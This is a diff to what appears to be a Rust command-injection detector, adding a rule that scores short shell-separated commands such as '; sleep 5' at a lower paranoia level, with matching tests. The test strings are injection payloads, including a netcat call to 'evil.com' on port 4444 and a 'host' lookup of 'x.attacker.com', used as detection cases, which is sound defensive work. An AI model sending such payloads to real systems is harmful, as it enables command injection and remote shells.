@@ -959,7 +959,15 @@ fn command_at(v: &[u8], at: usize, separator_len: usize, at_start: bool, level: 
         (_, _, Follow::Other) => return None,
         (_, _, _) if word.evasive && word.len > 1 => 1,
         (false, Kind::Rare, _) => 1,
-        (false, Kind::Common, Follow::Word) if !word.pathed => 2,
+        // `; sleep 5`, `| host evil.com`: a command line of its own after the separator, with
+        // what the command takes; `; sleep well tonight` is a sentence (paranoia 2).
+        (false, Kind::Common, Follow::Word) if !word.pathed => {
+            let shell = v[at..(at + separator_len).min(v.len())].iter().any(|b| matches!(b, b';' | b'|' | b'&'));
+            match shell && argument_like(v, end) && short_command(v, end) {
+                true => 1,
+                false => 2,
+            }
+        }
         (false, Kind::Common, _) => 1,
         (true, _, Follow::ShellArgument) => 1,
         (true, _, Follow::Word) if word.pathed => 1,
@@ -995,6 +1003,14 @@ fn argument_like(v: &[u8], i: usize) -> bool {
             || (!word.is_empty() && word.iter().all(u8::is_ascii_digit))
             || word.iter().any(|b| matches!(b, b'.' | b'/' | b'=' | b'@' | b':'))
     })
+}
+
+/// At most two words after a command at `i`, to the end of its line or the next separator:
+/// its arguments, not the rest of a sentence.
+fn short_command(v: &[u8], i: usize) -> bool {
+    let rest = &v[i..];
+    let end = rest.iter().position(|&b| matches!(b, b'\n' | b'\r' | b';' | b'|' | b'&')).unwrap_or(rest.len());
+    rest[..end].split(u8::is_ascii_whitespace).filter(|w| !w.is_empty()).count() <= 2
 }
 
 /// At most three words: a command line, not a sentence.
@@ -1486,8 +1502,19 @@ mod tests {
             "|| ping -c 10 127.0.0.1 ||",
             "| ping -c 10 127.0.0.1 |",
             "x;{n$@c,evil.com,4444}",
+            // A common word as a command line of its own, with what the command takes: the
+            // probes scanners send first.
+            "; sleep 5",
+            "1;sleep 5",
+            "| sleep 5",
+            "&& sleep 5",
+            "x; host x.attacker.com",
         ] {
             assert!(cmdi(s, 1), "{s}");
+        }
+        // The same word in a sentence after a `;` counts from paranoia 2.
+        for s in ["we came late; sleep 5 hours then work again", "home; sleep well", "Tom; host of the show"] {
+            assert!(!cmdi(s, 1), "{s}");
         }
         // A command opening a sentence of plain words counts from paranoia 2.
         assert!(!cmdi("wget internal x y z", 1) && cmdi("wget internal x y z", 2));
